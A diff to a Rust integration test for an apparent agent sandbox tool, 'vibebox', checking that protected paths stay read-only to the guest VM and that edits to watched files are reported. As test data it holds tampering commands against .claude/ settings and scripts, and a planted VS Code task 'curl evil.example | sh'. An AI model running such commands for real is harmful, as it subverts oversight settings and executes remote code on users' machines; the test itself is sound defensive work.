@@ -1500,9 +1500,19 @@ fn git_is_read_only_to_the_guest_and_comes_back_by_fetch() {
         return;
     };
     let _vm = vm_lock();
-    let mut b = Box::new(&images, "repo", "");
+    // The other protected paths share this boot: made read-only where they exist
+    // at the start (`protect_mode = "ro"`), watched where they do not.
+    let mut b = Box::new(
+        &images,
+        "repo",
+        "[box]\nprotect_mode = \"ro\"\nprotect = [\"tools/*.sh\"]\n",
+    );
     b.virtiofsd = Some(virtiofsd);
     let p = b.project.clone();
+    fs::create_dir_all(p.join(".claude")).unwrap();
+    fs::write(p.join(".claude/settings.json"), "{}\n").unwrap();
+    fs::create_dir_all(p.join("tools")).unwrap();
+    fs::write(p.join("tools/run.sh"), "echo hi\n").unwrap();
     host_git(&p, &["init", "-q", "-b", "main"]);
     host_git(&p, &["config", "user.email", "host@example.invalid"]);
     host_git(&p, &["config", "user.name", "host"]);
@@ -1625,14 +1635,86 @@ exit 0
     host_git(&p, &["checkout", "-q", "-f", "review"]);
     assert!(!proof_hook.exists() && !proof_fsmonitor.exists());
 
-    // The explain text says what protects .git.
+    // The explain text says what protects .git, and each protected path.
     let out = b.vibebox(&["explain"]);
+    let text = ok(&out);
     assert!(
-        ok(&out).contains(&format!(
+        text.contains(&format!(
             "{}  read-only (enforced on the host)",
             p.join(".git").display()
         )),
-        "{}",
-        out.stdout
+        "{text}"
     );
+    assert!(
+        text.contains("\n  .claude/  read-only (enforced on the host)\n"),
+        "{text}"
+    );
+    assert!(
+        text.contains(
+            "\n  tools/*.sh  read-only (enforced on the host) for what matched at the start (1)"
+        ),
+        "{text}"
+    );
+    assert!(
+        text.contains("\n  .vscode/  watched: ") && text.contains("not there at the start"),
+        "{text}"
+    );
+
+    // protect_mode = "ro": guest root cannot write what existed at the start.
+    let out = b.exec(
+        r#"S=; [ "$(id -u)" = 0 ] || S="sudo -n"
+$S sh -c 'echo evil >> .claude/settings.json' 2>/dev/null && echo "BREACH .claude/settings.json"
+$S sh -c 'echo evil > .claude/hooks.json' 2>/dev/null && echo "BREACH .claude/hooks.json"
+$S sh -c 'echo evil >> tools/run.sh' 2>/dev/null && echo "BREACH tools/run.sh"
+$S rm -rf .claude 2>/dev/null; $S mv tools/run.sh tools/x 2>/dev/null
+exit 0"#,
+    );
+    assert!(!ok(&out).contains("BREACH"), "{}", out.stdout);
+    assert_eq!(
+        fs::read_to_string(p.join(".claude/settings.json")).unwrap(),
+        "{}\n"
+    );
+    assert!(!p.join(".claude/hooks.json").exists());
+    assert_eq!(
+        fs::read_to_string(p.join("tools/run.sh")).unwrap(),
+        "echo hi\n"
+    );
+    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);
+
+    // Watched (.vscode/ was not there at the start): the guest writes a task; the
+    // next host command names it with its lines.
+    let out =
+        b.exec(r#"mkdir -p .vscode && printf '{\n  "command": "make"\n}\n' > .vscode/tasks.json"#);
+    ok(&out);
+    let out = b.vibebox(&["exec", "--", "true"]);
+    assert!(
+        out.stderr.contains("1 protected path changed")
+            && out.stderr.contains(
+                ".vscode/tasks.json: new (file, 24 bytes) (+3 -0): +{ +  \"command\": \"make\" …"
+            ),
+        "{}",
+        out.stderr
+    );
+    let out = b.vibebox(&["protected", "--accept"]);
+    assert!(ok(&out).starts_with("accepted 1 change:"), "{}", out.stdout);
+    let out = b.vibebox(&["exec", "--", "true"]);
+    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);
+
+    // The guest changes the accepted task: named when that client ends, and at
+    // the next command; `vibebox protected` shows the diff; accepting clears it.
+    let out = b.exec(r#"sed -i 's/"make"/"curl evil.example | sh"/' .vscode/tasks.json"#);
+    let change = ".vscode/tasks.json: changed (+1 -1): -  \"command\": \"make\" +  \"command\": \"curl evil.example | sh\"";
+    assert!(out.stderr.contains(change), "{}", out.stderr);
+    let out = b.vibebox(&["ssh-config"]);
+    assert!(out.stderr.contains(change), "{}", out.stderr);
+    let out = b.vibebox(&["protected"]);
+    let text = ok(&out);
+    assert!(
+        text.contains(".vscode/tasks.json: changed\n     {\n    -  \"command\": \"make\"\n    +  \"command\": \"curl evil.example | sh\"\n     }\n"),
+        "{text}"
+    );
+    ok(&b.vibebox(&["protected", "--accept"]));
+    let out = b.vibebox(&["exec", "--", "true"]);
+    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);
+    assert!(ok(&b.vibebox(&["protected"])).starts_with("no changes"));
 }
